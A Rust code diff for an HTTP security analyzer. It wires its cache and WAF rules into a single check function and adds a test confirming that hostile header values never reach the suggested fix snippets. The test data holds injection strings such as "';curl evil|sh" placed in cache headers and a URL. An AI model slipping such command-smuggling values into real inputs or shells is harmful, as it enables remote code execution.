@@ -7,6 +7,14 @@ use crate::finding::{Finding, Fix, Signal};
 use crate::headers::cache::{self, CacheControl};
 use crate::signals::is_session_cookie_name;
 
+/// Runs the cache and WAF rules, in their fixed order.
+pub(super) fn check(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
+    cached_401_served(ctx, out);
+    auth_failure_cacheable(ctx, out);
+    auth_response_cache_key_unsafe(ctx, out);
+    waf_block_masquerading(ctx, out);
+}
+
 /// The Cache-Control value for evidence.
 fn cc_value(ctx: &Ctx<'_, '_>) -> String {
     ctx.ex.response_headers.get("cache-control").map_or_else(|| "(absent)".to_string(), |v| v.trim().to_string())
@@ -48,7 +56,7 @@ fn no_store_fix(summary: &str) -> Fix {
 
 /// `cached-401-served` — RFC 9111 §3 (storing needs explicit freshness or a heuristically
 /// cacheable status; 401 is not one, RFC 9110 §15.1).
-pub(super) fn cached_401_served(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
+fn cached_401_served(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
     if ctx.ex.status != 401 {
         return;
     }
@@ -87,7 +95,7 @@ pub(super) fn cached_401_served(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
 }
 
 /// `auth-failure-cacheable` — RFC 9111 §3, §5.2.2.5 (no-store), §5.2.2.7 (private).
-pub(super) fn auth_failure_cacheable(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
+fn auth_failure_cacheable(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
     if !matches!(ctx.ex.status, 401 | 403) {
         return;
     }
@@ -116,7 +124,7 @@ pub(super) fn auth_failure_cacheable(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) 
 }
 
 /// `auth-response-cache-key-unsafe` — RFC 9111 §3.5 (Authorization and shared caches), §4.1 (Vary).
-pub(super) fn auth_response_cache_key_unsafe(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
+fn auth_response_cache_key_unsafe(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
     if !(200..300).contains(&ctx.ex.status) {
         return;
     }
@@ -216,7 +224,7 @@ fn waf_signature(ctx: &Ctx<'_, '_>) -> Option<Waf> {
 }
 
 /// `waf-block-masquerading` — RFC 9110 §15.5.2 (a 401 must carry a challenge), §15.5.4 (403).
-pub(super) fn waf_block_masquerading(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
+fn waf_block_masquerading(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
     if !matches!(ctx.ex.status, 401 | 403 | 405 | 406 | 429) || ctx.ex.response_headers.has_challenge() {
         return;
     }
@@ -257,4 +265,38 @@ pub(super) fn waf_block_masquerading(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) 
             .with("Signature", waf.evidence)
             .confidence(85),
     );
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::correlate::Correlation;
+    use crate::model::{Capture, Exchange, Header, Headers};
+    use std::borrow::Cow;
+
+    /// The cache snippets hold no capture value, so hostile cache headers cannot reach them.
+    #[test]
+    fn hostile_cache_headers_stay_out_of_the_snippets() {
+        let hostile = "HIT';curl evil|sh;echo '\"$host";
+        let ex = Exchange {
+            method: Cow::Borrowed("GET"),
+            url: Cow::Borrowed("https://api.example.net/v1/me?x=';curl evil|sh"),
+            status: 401,
+            response_headers: Headers(vec![
+                Header::new("Cache-Control", "public, max-age=600, x=\"';curl evil|sh\""),
+                Header::new("X-Cache", hostile),
+                Header::new("Age", "30"),
+            ]),
+            ..Default::default()
+        };
+        let cap = Capture { exchanges: vec![ex], ..Default::default() };
+        let corr = Correlation::build(&cap);
+        let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
+        let mut out = Vec::new();
+        check(&ctx, &mut out);
+        assert!(out.iter().any(|f| f.id == FindingId::Cached401Served), "{out:?}");
+        for s in out.iter().flat_map(|f| &f.fix.snippets) {
+            assert!(!s.code.contains("evil"), "{}", s.code);
+        }
+    }
 }
